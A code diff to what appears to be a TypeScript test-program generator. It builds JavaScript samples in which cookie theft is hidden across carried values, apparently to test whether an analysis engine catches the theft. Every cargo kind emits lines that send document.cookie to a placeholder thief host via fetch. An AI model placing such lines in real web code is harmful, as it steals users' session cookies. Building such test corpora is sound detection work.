@@ -12,13 +12,11 @@ import type { Template } from "./template.ts";
 export interface Cargo {
 	/** `carried/name`, unique. */
 	readonly name: string;
-	/** Expressions, one of which steals when it is used. */
+	/** Expressions; only the first steals when it is used. */
 	readonly expressions: readonly [string, ...string[]];
 	/** @returns statements that use what has arrived */
 	readonly use: (value: string) => string;
 }
-
-const THEFT = `fetch("${TO_THIEF}" + document.cookie)`;
 
 /** All kinds of cargo. */
 export const cargos: readonly Cargo[] = [
@@ -28,19 +26,24 @@ export const cargos: readonly Cargo[] = [
 		use: (value) => `fetch((${value}) + document.cookie);`,
 	},
 	{
-		name: "carried/function",
-		expressions: [`(() => ${THEFT})`, "(() => 0)"],
-		use: (value) => `(${value})();`,
-	},
-	{
 		name: "carried/object",
 		expressions: [`({ to: "${TO_THIEF}" })`, '({ to: "/a?c=" })'],
 		use: (value) => `fetch((${value}).to + document.cookie);`,
 	},
 	{
-		name: "carried/method",
-		expressions: [`({ act() { return ${THEFT}; } })`, "({ act() {} })"],
-		use: (value) => `(${value}).act();`,
+		name: "carried/name",
+		expressions: ['"cookie"', '"title"'],
+		use: (value) => `fetch("${TO_THIEF}" + document[${value}]);`,
+	},
+	{
+		name: "carried/source",
+		expressions: ["document", '({ cookie: "none" })'],
+		use: (value) => `fetch("${TO_THIEF}" + (${value}).cookie);`,
+	},
+	{
+		name: "carried/sender",
+		expressions: ["fetch", "(() => 0)"],
+		use: (value) => `(${value})("${TO_THIEF}" + document.cookie);`,
 	},
 ];
 
@@ -66,7 +69,7 @@ export async function makeCarriers(engine: RealEngine, orders: readonly CarrierO
 		const { template, cargo, seed, isPlain, isLate } = order;
 		const started = startProgram(template, holesFrom(seed, 0, cargo.expressions), isPlain);
 		const code = finishProgram(started, cargo.use(started.value));
-		if (!code.includes("thief") || made.has(code)) continue;
+		if (made.has(code) || !code.includes(cargo.expressions[0])) continue;
 		const again = (other: number) => makeCarriers(engine, [{ ...order, seed: other, isPlain: true }]);
 		made.set(code, {
 			template: template.name,
